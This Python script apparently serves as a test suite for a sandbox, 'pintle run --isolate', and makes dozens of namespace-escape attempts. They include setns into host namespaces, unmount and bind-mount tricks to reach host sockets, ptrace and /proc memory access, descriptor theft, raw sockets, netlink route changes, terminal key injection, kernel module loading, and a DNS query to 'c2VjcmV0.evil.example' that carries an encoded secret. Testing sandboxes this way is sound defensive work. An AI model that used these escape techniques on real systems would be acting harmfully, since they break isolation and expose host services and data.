# SPDX-License-Identifier: Apache-2.0
"""Attempts to leave the namespaces of `pintle run --isolate` without Pintle. Each ends with an exception, or has led out.

usage: escape.py NAME|--all|--all-of-root PORT ABSTRACT SOCKETS PROCESS
       --all tells of each attempt: its name, exit code and last line.
       PORT: of a server on the machine's loopback; ABSTRACT, SOCKETS: the name and the paths, with commas between them, of Unix sockets
       of the machine; PROCESS: Pintle's number there
"""

import ctypes
import errno
import fcntl
import os
import platform
import pty
import socket
import struct
import subprocess
import sys

libc = ctypes.CDLL(None, use_errno=True)
arm = platform.machine() == "aarch64"
SETNS, UNSHARE, BPF, MODULE, REQUEST_KEY = (268, 97, 280, 273, 218) if arm else (308, 272, 321, 313, 249)
PIDFD_OPEN, PIDFD_GETFD, IO_URING_SETUP = 434, 438, 425
NEW_NETWORK, NEW_USERS, NEW_MOUNTS = 0x40000000, 0x10000000, 0x20000
BIND, MOVE, RECURSIVE, DETACH = 0x1000, 0x2000, 0x4000, 2
attempts, attempts_of_root = {}, {}


def attempt(function):
    attempts[function.__name__] = function
    return function


def attempt_of_root(function):
    """Marks one that must fail for root, too."""
    attempts_of_root[function.__name__] = function
    return attempt(function)


def call(number, *arguments):
    # Numbers are those of the kernel's width.
    wide = [ctypes.c_long(each) if isinstance(each, int) else each for each in arguments]
    result = libc.syscall(ctypes.c_long(number), *wide)
    if result < 0:
        raise OSError(ctypes.get_errno(), f"call {number}")
    return result


def reach(host="127.0.0.1"):
    socket.create_connection((host, outside), 5)


def enter(path, kind=0):
    call(SETNS, os.open(path, os.O_RDONLY), kind)
    reach()


def netlink(protocol, kind, body, flags):
    channel = socket.socket(socket.AF_NETLINK, socket.SOCK_RAW, protocol)
    channel.sendto(struct.pack("=IHHII", 16 + len(body), kind, flags, 1, 0) + body, (0, 0))
    code = struct.unpack_from("=i", channel.recv(65536), 16)[0]
    if code < 0:
        raise OSError(-code, "netlink")


def check(result, what):
    if result != 0:
        raise OSError(ctypes.get_errno(), what)


def mount(source, target, flags, kind=None):
    check(libc.mount(source.encode(), target.encode(), kind, ctypes.c_ulong(flags), None), f"mount {target}")


def connect(paths):
    """Connects to one of the paths, or raises the last reason."""
    reason = FileNotFoundError("there is no path")
    for path in paths:
        try:
            return socket.socket(socket.AF_UNIX).connect(path)
        except OSError as failure:
            reason = failure
    raise reason


def tried(action, paths):
    """Connects to what an action has opened, where it could."""
    reached = []
    reason = PermissionError("nothing could be done")
    for path in paths:
        try:
            action(path)
            reached.append(path)
        except OSError as failure:
            reason = failure
    if not reached:
        raise reason
    connect(reached)


def become_mounter():
    call(UNSHARE, NEW_USERS | NEW_MOUNTS)


def answered(channel, address):
    channel.settimeout(5)
    channel.connect(address)
    channel.send(b"\x08\0\0\0\0\1\0\1")
    channel.recv(99)


# ---- Where servers are.


@attempt_of_root
def loopback():
    reach()


@attempt
def loopback_6():
    reach("::1")


@attempt
def unspecified_address():
    reach("0.0.0.0")


@attempt
def own_address():
    reach("198.18.0.1")


@attempt
def listener_of_captures():
    for host in ("127.0.0.1", "198.18.0.1"):
        channel = socket.create_connection((host, 64101), 5)
        channel.sendall(f"GET / HTTP/1.0\r\nHost: 127.0.0.1:{outside}\r\n\r\n".encode())
        if channel.recv(99):
            return
    raise ConnectionRefusedError("there is no answer")


@attempt
def name_without_a_question():
    channel = socket.create_connection(("198.18.99.99", outside), 5)
    channel.sendall(b"GET / HTTP/1.0\r\n\r\n")
    if not channel.recv(99):
        raise ConnectionRefusedError("there is no answer")


@attempt
def source_route():
    channel = socket.socket()
    channel.setsockopt(socket.IPPROTO_IP, 4, bytes([131, 7, 4, 127, 0, 0, 1, 0]))
    channel.settimeout(5)
    channel.connect(("127.0.0.1", outside))


@attempt_of_root
def abstract_socket():
    socket.socket(socket.AF_UNIX).connect(b"\0" + abstract.encode())


@attempt_of_root
def service():
    connect(services)


@attempt_of_root
def service_by_datagram():
    for path in services:
        socket.socket(socket.AF_UNIX, socket.SOCK_DGRAM).sendto(b"x", path)


@attempt_of_root
def service_through_pintle():
    connect(f"/proc/{process}/{folder}{path}" for folder in ("root", "cwd/../..") for path in services)


@attempt_of_root
def service_through_process_1():
    connect(f"/proc/1/root{path}" for path in services)


@attempt_of_root
def uncovered_service():
    tried(lambda path: check(libc.umount2(path.encode(), DETACH), "umount"), services)


@attempt_of_root
def uncovered_folder():
    tried(lambda path: check(libc.umount2(os.path.dirname(path).encode(), DETACH), "umount"), services)


@attempt_of_root
def uncovered_runtime_folder():
    check(libc.umount2(b"/run", DETACH), "umount")
    connect(services)


@attempt_of_root
def uncovered_by_new_users():
    become_mounter()
    tried(lambda path: check(libc.umount2(path.encode(), DETACH), "umount"), services + ["/run"])
    connect(services)


@attempt_of_root
def other_view_of_the_files():
    become_mounter()
    os.mkdir("view")
    for source in ["/", "/run"] + [os.path.dirname(path) for path in services]:
        try:
            mount(source, "view", BIND)
        except OSError:
            continue
        connect(os.path.join("view", os.path.relpath(path, source)) for path in services if path.startswith(source))
    raise PermissionError("there is no view")


@attempt_of_root
def moved_mount():
    become_mounter()
    os.makedirs("moved", exist_ok=True)
    mount("/run", "moved", MOVE)
    connect(services)


@attempt_of_root
def new_root():
    become_mounter()
    os.makedirs("base/old", exist_ok=True)
    mount("/", "base", BIND | RECURSIVE)
    os.chroot("base")
    connect(services)


@attempt_of_root
def layer_over_a_service():
    become_mounter()
    os.makedirs("layer", exist_ok=True)
    folder = os.path.dirname(services[0])
    check(libc.mount(b"overlay", b"layer", b"overlay", ctypes.c_ulong(0), f"lowerdir={folder}:/usr".encode()), "overlay")
    connect([os.path.join("layer", os.path.basename(services[0]))])


@attempt_of_root
def service_by_handle():
    become_mounter()
    name_to_handle, open_by_handle = (264, 265) if arm else (303, 304)
    for path in services:
        folder = os.open(os.path.dirname(path), os.O_RDONLY)
        handle = ctypes.create_string_buffer(struct.pack("Ii", 128, 0), 136)
        call(name_to_handle, -100, path.encode(), handle, ctypes.byref(ctypes.c_int()), 0)
        connect([f"/proc/self/fd/{call(open_by_handle, folder, handle, os.O_PATH)}"])


@attempt_of_root
def removed_cover():
    tried(os.unlink, services)


@attempt_of_root
def renamed_service():
    for path in services:
        os.rename(path, path + ".new")
    connect(path + ".new" for path in services)


@attempt_of_root
def linked_service():
    for path in services:
        os.link(path, path + ".new", follow_symlinks=False)
    connect(path + ".new" for path in services)


# ---- Other namespaces.


@attempt_of_root
def network_of_process_1():
    enter("/proc/1/ns/net")


@attempt_of_root
def network_of_pintle():
    enter(f"/proc/{process}/ns/net")


@attempt_of_root
def users_of_pintle():
    enter(f"/proc/{process}/ns/user", NEW_USERS)


@attempt_of_root
def network_by_process_descriptor():
    call(SETNS, call(PIDFD_OPEN, process, 0), NEW_NETWORK)
    reach()


@attempt_of_root
def network_from_new_users():
    call(UNSHARE, NEW_USERS)
    enter(f"/proc/{process}/ns/net")


@attempt
def new_network():
    call(UNSHARE, NEW_USERS | NEW_NETWORK)
    reach()


@attempt_of_root
def mounts_of_pintle():
    enter(f"/proc/{process}/ns/mnt", NEW_MOUNTS)


@attempt_of_root
def mounts_of_process_1():
    enter("/proc/1/ns/mnt", NEW_MOUNTS)


@attempt_of_root
def processes_of_pintle():
    os.listdir(f"/proc/{process}")


@attempt_of_root
def older_processes():
    check(libc.umount2(b"/proc", DETACH), "umount")
    os.listdir(f"/proc/{process}/fd")


@attempt_of_root
def older_processes_of_new_users():
    become_mounter()
    check(libc.umount2(b"/proc", DETACH), "umount")
    os.listdir(f"/proc/{process}")


@attempt_of_root
def signal_to_pintle():
    os.kill(process, 0)


@attempt_of_root
def priority_of_pintle():
    os.setpriority(os.PRIO_PROCESS, process, 19)


# ---- Descriptors and memory.


@attempt_of_root
def environment_of_pintle():
    open(f"/proc/{process}/environ", "rb").read(1)


@attempt_of_root
def memory_of_process_1():
    open("/proc/1/mem", "rb")


@attempt_of_root
def environment_of_process_1():
    open("/proc/1/environ", "rb").read(1)


@attempt_of_root
def traced_process_1():
    libc.ptrace.restype = ctypes.c_long
    check(libc.ptrace(16, 1, None, None), "ptrace")


@attempt_of_root
def descriptor_of_process_1():
    call(PIDFD_GETFD, call(PIDFD_OPEN, 1, 0), 0, 0)


@attempt_of_root
def inherited_folder():
    for number in range(3, 256):
        try:
            os.open(".", os.O_RDONLY, dir_fd=number)
        except (NotADirectoryError, OSError) as failure:
            if failure.errno not in (errno.EBADF, errno.ENOTDIR):
                raise
        else:
            return
    raise FileNotFoundError("there is no folder")


@attempt_of_root
def typed_keys():
    child, terminal = pty.fork()
    if child == 0:
        try:
            fcntl.ioctl(0, 0x5412, b"x")
        except OSError as failure:
            os._exit(failure.errno)
        os._exit(0)
    code = os.waitstatus_to_exitcode(os.waitpid(child, 0)[1])
    if code != 0:
        raise OSError(code, "typing")


@attempt_of_root
def taken_descriptor():
    call(PIDFD_GETFD, call(PIDFD_OPEN, process, 0), 3, 0)


@attempt_of_root
def opened_descriptor():
    for number in range(3, 12):
        os.open(f"/proc/{process}/fd/{number}", os.O_RDWR)


@attempt_of_root
def inherited_descriptor():
    for number in range(3, 256):
        try:
            kind = os.readlink(f"/proc/self/fd/{number}")
        except FileNotFoundError:
            continue
        if kind.startswith("socket:"):
            return
    raise FileNotFoundError("there is no socket")


@attempt_of_root
def traced_pintle():
    libc.ptrace.restype = ctypes.c_long
    if libc.ptrace(16, process, None, None) != 0:
        raise OSError(ctypes.get_errno(), "ptrace")


@attempt_of_root
def read_memory():
    open(f"/proc/{process}/mem", "rb")


@attempt_of_root
def written_memory():
    space = ctypes.create_string_buffer(8)
    vector = (ctypes.c_size_t * 2)(ctypes.addressof(space), 8)
    call(271 if arm else 311, process, vector, 1, vector, 1, 0)


# ---- Sockets and protocols.


@attempt
def packet_socket():
    socket.socket(17, socket.SOCK_RAW, 0x300)


@attempt
def raw_socket():
    socket.socket(socket.AF_INET, socket.SOCK_RAW, socket.IPPROTO_TCP)


@attempt
def raw_socket_6():
    socket.socket(socket.AF_INET6, socket.SOCK_RAW, socket.IPPROTO_ICMPV6)


@attempt
def raw_socket_of_new_users():
    call(UNSHARE, NEW_USERS)
    socket.socket(socket.AF_INET, socket.SOCK_RAW, socket.IPPROTO_TCP)


@attempt
def socket_of_the_host():
    socket.socket(40, socket.SOCK_STREAM).connect((2, 22))


@attempt
def bluetooth_socket():
    socket.socket(31, socket.SOCK_RAW, 1)


@attempt
def sctp():
    socket.socket(socket.AF_INET, socket.SOCK_STREAM, 132).connect(("192.0.2.1", 80))


@attempt
def dccp():
    socket.socket(socket.AF_INET, 6, 33).connect(("192.0.2.1", 80))


@attempt
def udp():
    answered(socket.socket(socket.AF_INET, socket.SOCK_DGRAM), ("192.0.2.1", 443))


@attempt
def udp_6():
    answered(socket.socket(socket.AF_INET6, socket.SOCK_DGRAM), ("2001:db8::1", 443))


@attempt
def udp_lite():
    answered(socket.socket(socket.AF_INET, socket.SOCK_DGRAM, 136), ("192.0.2.1", 443))


@attempt
def echo_request():
    answered(socket.socket(socket.AF_INET, socket.SOCK_DGRAM, socket.IPPROTO_ICMP), ("192.0.2.1", 0))


@attempt
def ring_of_calls():
    call(IO_URING_SETUP, 8, ctypes.create_string_buffer(120))


@attempt_of_root
def key_by_a_program_of_the_machine():
    try:
        call(REQUEST_KEY, b"user", b"pintle", b"pintle", -2)
    except OSError as failure:
        # Any other reason is that of the program which the kernel has started, or has not found.
        if failure.errno == errno.ENOSYS:
            raise


@attempt
def name_as_a_channel():
    socket.getaddrinfo("c2VjcmV0.evil.example", 80)


# ---- The network itself.


@attempt
def new_link():
    netlink(0, 16, struct.pack("=BxHiII", 0, 0, 0, 1, 1) + struct.pack("=HH", 8, 3) + b"out\0", 0x605)


@attempt
def new_address():
    netlink(0, 20, struct.pack("=BBBBI4x", 2, 32, 0, 0, 1)[:8] + struct.pack("=HH4s", 8, 2, bytes([10, 0, 0, 9])), 0x605)


@attempt
def route_away():
    netlink(0, 25, struct.pack("=BBBBBBBBI", 2, 0, 0, 0, 255, 0, 0, 0, 0), 0x5)


@attempt
def rules_away():
    batch = struct.pack("=BBH", 0, 0, socket.htons(10))
    table = struct.pack("=BBH", 1, 0, 0) + struct.pack("=HH", 11, 1) + b"pintle\0\0"
    parts = ((16, 0x1, batch), (0xA02, 0x5, table), (17, 0x1, batch))
    channel = socket.socket(socket.AF_NETLINK, socket.SOCK_RAW, 12)
    channel.settimeout(5)
    channel.send(b"".join(struct.pack("=IHHII", 16 + len(body), kind, flags, number, 0) + body
                          for number, (kind, flags, body) in enumerate(parts)))
    code = struct.unpack_from("=i", channel.recv(65536), 16)[0]
    if code < 0:
        raise OSError(-code, "netlink")


@attempt
def setting_of_the_network():
    open("/proc/sys/net/ipv4/conf/all/route_localnet", "w").write("1")


@attempt
def tunnel_device():
    device = os.open("/dev/net/tun", os.O_RDWR)
    fcntl.ioctl(device, 0x400454CA, struct.pack("16sH22x", b"tun9", 1))


# ---- Power.


@attempt
def capabilities():
    line = next(each for each in open("/proc/self/status") if each.startswith("CapEff"))
    if int(line.split()[1], 16) == 0:
        raise PermissionError("there are none")


@attempt
def program_with_privileges():
    subprocess.run(["su", "-c", "true"], check=True, stdin=subprocess.DEVNULL, stderr=subprocess.DEVNULL)


@attempt
def program_of_another_owner():
    # A copy of id(1) that runs as root.
    if subprocess.run(["./owner", "-u"], check=True, capture_output=True).stdout.strip() != b"0":
        raise PermissionError("it runs as its caller")


@attempt
def program_in_the_kernel():
    call(BPF, 5, ctypes.create_string_buffer(120), 120)


@attempt
def module_of_the_kernel():
    call(MODULE, os.open("/proc/self/exe", os.O_RDONLY), b"", 0)


def tell(names):
    for name in names:
        made = subprocess.run([sys.executable, __file__, name] + sys.argv[2:], close_fds=False, capture_output=True, text=True)
        lines = (made.stdout + made.stderr).splitlines()
        sys.stdout.write(f"{name} {made.returncode} {lines[-1] if lines else ''}\n")


outside, abstract, services, process = int(sys.argv[2]), sys.argv[3], sys.argv[4].split(","), int(sys.argv[5])
if sys.argv[1] == "--all":
    tell(attempts)
elif sys.argv[1] == "--all-of-root":
    tell(attempts_of_root)
else:
    attempts[sys.argv[1]]()
    sys.stdout.write(f"{sys.argv[1]} has led out\n")
